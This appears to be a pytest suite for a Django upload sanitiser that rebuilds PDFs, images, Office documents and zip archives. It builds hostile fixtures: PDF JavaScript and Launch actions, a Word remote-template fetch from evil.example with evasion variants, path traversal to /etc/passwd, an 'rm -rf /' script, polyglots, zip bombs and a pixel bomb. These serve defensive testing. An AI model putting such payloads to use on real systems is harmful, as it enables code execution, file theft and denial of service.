"""Papers from people: real files, hostile ones too; what is kept was written anew and carries nothing along."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook
from PIL import Image

from goldidea.lib import paper_child as child
from goldidea.lib.papers import MOST_BYTES, REFUSED, Paper, clean_paper, shown_name

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"></Types>'
DOCUMENT = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": b"<document/>"}


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def clean(content: bytes, name: str) -> Paper:
    return clean_paper(upload(content, name))


def refused(content: bytes, name: str) -> str:
    """The code of the refusal."""
    with pytest.raises(ValidationError) as caught:
        clean(content, name)
    return f"{caught.value.code}: {caught.value.messages[0]}"


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda _pdf: None, **options) -> bytes:
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (60, 40), **options) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#2d8383").save(out, kind, **options)
    return out.getvalue()


def package(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def word() -> bytes:
    return package(DOCUMENT)


def workbook() -> bytes:
    book = Workbook()
    book.active.append(["项目", "金额"])
    book.properties.creator = "周小满"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


# ---- What is taken


@pytest.mark.parametrize(
    ("content", "name", "kind", "shown"),
    [
        (pdf(), "登记证书.pdf", "pdf", "登记证书.pdf"),
        (picture(), "现场.JPEG", "jpg", "现场.jpg"),
        (picture("PNG"), "a.png", "jpg", "a.jpg"),
        (picture("WEBP"), "a.webp", "jpg", "a.jpg"),
        (word(), "C:\\我的\\章程.docx", "docx", "章程.docx"),
        (workbook(), "预算.xlsx", "xlsx", "预算.xlsx"),
        (package({"材料/章程.pdf": pdf()}), "材料.zip", "zip", "材料.zip"),
        (pdf(), "其实是.docx", "pdf", "其实是.pdf"),
    ],
)
def test_the_allowed_kinds_by_what_is_in_them(content: bytes, name: str, kind: str, shown: str) -> None:
    paper = clean(content, name)
    assert (paper.kind, paper.name) == (kind, shown)


def test_a_workbook_stays_one_and_loses_its_maker() -> None:
    book = load_workbook(io.BytesIO(clean(workbook(), "预算.xlsx").content))
    assert [cell.value for cell in book.active[1]] == ["项目", "金额"]
    assert book.properties.creator != "周小满"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("会议记录.pdf", "会议记录.pdf"),
        ("..\\..\\evil.exe", "evil.pdf"),
        ("a/b/\x00c\n.pdf", "c.pdf"),
        ("<>.pdf", "paper.pdf"),
    ],
)
def test_the_name_for_the_download(name: str, shown: str) -> None:
    assert shown_name(name, "pdf") == shown


# ---- What acts, carries or tells


def test_a_pdf_loses_scripts_actions_carried_files_and_metadata() -> None:
    def arm(made: pikepdf.Pdf) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('x-script')")
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe", Next=script)
        made.Root.OpenAction = made.make_indirect(script)
        made.Root.AA = pikepdf.Dictionary(WC=script)
        made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))
        made.attachments["x-carried.exe"] = pikepdf.AttachedFileSpec(made, b"MZ-x-carried")
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=launch
        )
        see = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 9, 9],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/"),
        )
        made.pages[0].Annots = made.make_indirect(pikepdf.Array([made.make_indirect(link), see]))
        made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA="x-form")
        made.docinfo["/Author"] = "x-author"

    content = clean(pdf(arm), "a.pdf").content
    with pikepdf.open(io.BytesIO(content)) as kept:
        whole = b"".join(thing.unparse(resolved=True) for thing in kept.objects)
        streams = b"".join(thing.read_bytes() for thing in kept.objects if isinstance(thing, pikepdf.Stream))
        assert len(kept.pages) == 1
        assert kept.trailer.get("/Info") is None
    for trace in (b"x-script", b"calc.exe", b"x-carried", b"x-form", b"x-author", b"/Launch", b"/JavaScript"):
        assert trace not in whole + streams, trace
    assert b"https://example.org/" in whole  # a link that one sees may stay


def test_a_polyglot_keeps_its_picture_or_pages_and_nothing_else() -> None:
    hidden = package({"evil.html": b"<script>x-polyglot</script>"})
    for content, name in ((pdf() + hidden, "a.pdf"), (picture() + hidden, "a.jpg")):
        kept = clean(content, name).content
        assert b"x-polyglot" not in kept
        assert not zipfile.is_zipfile(io.BytesIO(kept))
    assert "not-usable" in refused(b"GIF89a" + pdf(), "a.pdf")  # a PDF begins with its own mark


def test_a_scan_loses_where_it_was_taken() -> None:
    exif = Image.Exif()
    exif[0x010F] = "x-maker"
    exif.get_ifd(0x8825)[2] = (30.0, 14.0, 24.0)  # GPS latitude
    content = picture(exif=exif)
    assert b"x-maker" in content
    kept = clean(content, "a.jpg").content
    assert (dict(Image.open(io.BytesIO(kept)).getexif()), b"x-maker" in kept) == ({}, False)
    inside = parts(clean(package({"a.jpg": content}), "a.zip").content)
    assert [b"x-maker" in one for one in inside.values()] == [False]


def test_pictures_in_a_document_lose_it_too() -> None:
    exif = Image.Exif()
    exif[0x010F] = "x-maker"
    kept = parts(clean(package({**DOCUMENT, "word/media/a.jpeg": picture(exif=exif)}), "a.docx").content)
    assert b"x-maker" not in kept["word/media/a.jpeg"]


# ---- What is refused


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "old-office"),
        ("a.wps", b"anything", "old-office"),
        ("a.heic", b"\0\0\0\x18ftypheic", "heic"),
        ("renamed.jpg", b"\0\0\0\x18ftypheic" + b"\0" * 64, "heic"),
        ("a.docm", b"PK\x03\x04", "macros"),
        ("a.pdf", b"MZ\x90\0" + b"\0" * 512, "not-usable"),
        ("a.pdf", b"\x7fELF" + b"\0" * 512, "not-usable"),
        ("a.jpg", b"#!/bin/sh\nrm -rf /\n", "not-usable"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "not-usable"),
        ("a.html", b"<html><script>1</script></html>", "not-usable"),
        ("a.pdf", b"%PDF-1.7\nnothing more", "not-usable"),
        ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 99, "not-usable"),
        ("a.zip", b"PK\x03\x04" + b"\0" * 99, "not-usable"),
        ("a.rar", b"Rar!\x1a\x07\0", "not-usable"),
        ("a.pdf", b"", "empty"),
    ],
)
def test_other_kinds_are_refused_with_what_to_do(name: str, content: bytes, code: str) -> None:
    assert refused(content, name).startswith(code)


def test_too_large_is_refused_before_it_is_read() -> None:
    class Unread(SimpleUploadedFile):
        def read(self, *_args: object) -> bytes:
            raise AssertionError("was read")

    with pytest.raises(ValidationError) as caught:
        clean_paper(Unread("a.pdf", b"x" * (MOST_BYTES + 1)))
    assert caught.value.code == "too-large"


def test_a_locked_pdf_is_refused() -> None:
    content = pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert because(child.LOCKED, content, "a.pdf")


TEMPLATE = (
    '<Relationships><Relationship Id="1" Target="http://evil.example/t.dotm" Type="http://x/attachedTemplate" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "files",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
            b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        },
        {"word/_rels/settings.xml.rels": TEMPLATE.replace("t.dotm", "hyperlink/t.dotm").encode()},
        {"word/_rels/settings.xml.rels": TEMPLATE.replace("t.dotm", "t>.dotm").encode()},
        {"word/_rels/settings.xml.rels": TEMPLATE.replace("External", "&#69;xternal").encode()},
        {"word/_rels/settings.xml.rels": TEMPLATE.encode("utf-16")},
        {"word/_rels/settings.xml.RELS": TEMPLATE.encode()},
        {"../../etc/passwd": b"x"},
        {"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'},
    ],
    ids=[
        "macros",
        "object",
        "control",
        "template from elsewhere",
        "template from an address like a link",
        "template with a bracket in its address",
        "template written in references",
        "template in UTF-16",
        "template in capitals",
        "path",
        "entities",
    ],
)
def test_a_document_that_acts_or_fetches_is_refused(files: dict[str, bytes]) -> None:
    assert refused(package({**DOCUMENT, **files}), "a.docx").startswith("not-usable")


def test_a_link_that_one_sees_may_stay_in_a_document() -> None:
    link = (
        b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://example.org/" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    kept = clean(package({**DOCUMENT, "word/_rels/document.xml.rels": link}), "a.docx")
    assert parts(kept.content)["word/_rels/document.xml.rels"] == link


@pytest.mark.parametrize("name", ["../../x.pdf", "/etc/x.pdf", "C:\\x.pdf", "a/../../x.pdf"])
def test_an_archive_that_would_leave_its_folder_is_refused(name: str) -> None:
    assert refused(package({name: pdf()}), "a.zip").startswith("not-usable")


def test_a_symbolic_link_in_an_archive_is_refused() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("a.pdf")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert refused(out.getvalue(), "a.zip").startswith("not-usable")


@pytest.mark.parametrize(
    "files",
    [
        {"setup.pdf": b"MZ\x90\0" + b"\0" * 99},
        {"run.bat": b"@echo off"},
        {"inner.zip": package({"a.pdf": pdf()})},
        {},
    ],
    ids=["renamed executable", "script", "archive in archive", "empty"],
)
def test_what_an_archive_may_not_hold(files: dict[str, bytes]) -> None:
    assert refused(package(files), "a.zip").startswith("not-usable")


def test_an_archive_is_packed_anew_under_plain_names() -> None:
    files = {"材料/章程.pdf": pdf(), "__MACOSX/._x": b"litter", "现场.png": picture("PNG"), "材料/": b""}
    kept = parts(clean(package(files), "a.zip").content)
    assert list(kept) == ["001-章程.pdf", "002-现场.jpg"]


# ---- What costs too much


def because(why: int, content: bytes, name: str) -> bool:
    """Whether the file is refused for this reason, and not because the child ran into its limits."""
    return refused(content, name) == f"not-usable: {REFUSED[why]}"


def test_a_zip_bomb_costs_nothing() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("a.pdf", "w") as part:
        for _n in range(300):
            part.write(b"\0" * (1 << 20))
    assert len(out.getvalue()) < 400_000
    assert because(child.BOMB, out.getvalue(), "a.zip")
    bomb = package({**DOCUMENT, "word/media/x.bin": b"\0" * (201 << 20)})
    assert because(child.BOMB, bomb, "a.docx")


def test_an_archive_that_lies_about_its_size_is_cut_off() -> None:
    content = bytearray(package({"a.pdf": b"\0" * (1 << 20)}))
    at = content.find(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)  # claims 10 bytes
    assert refused(bytes(content), "a.zip").startswith("not-usable")


def test_ten_thousand_entries_are_refused_by_the_list_alone() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(10_000):
            archive.writestr(f"{number}.pdf", b"")
    assert because(child.BOMB, out.getvalue(), "a.zip")


def test_a_workbook_that_claims_a_million_rows_costs_nothing() -> None:
    """Nobody counts its rows: it is packed anew as it is."""
    sheet = (
        b'<worksheet><dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"/></sheetData></worksheet>'
    )
    content = package(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": sheet,
        }
    )
    assert parts(clean(content, "a.xlsx").content)["xl/worksheets/sheet1.xml"] == sheet


def test_a_picture_bomb_is_refused_by_its_measures() -> None:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    bomb = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 9_999))
        + chunk(b"IEND", b"")
    )
    assert because(child.PIXELS, bomb, "a.png")
    assert because(child.PIXELS, package({"a.png": bomb}), "a.zip")


def test_a_pdf_with_too_many_pages_is_refused() -> None:
    def grow(made: pikepdf.Pdf) -> None:
        for _n in range(501):
            made.add_blank_page(page_size=(10, 10))

    assert because(child.BOMB, pdf(grow), "a.pdf")
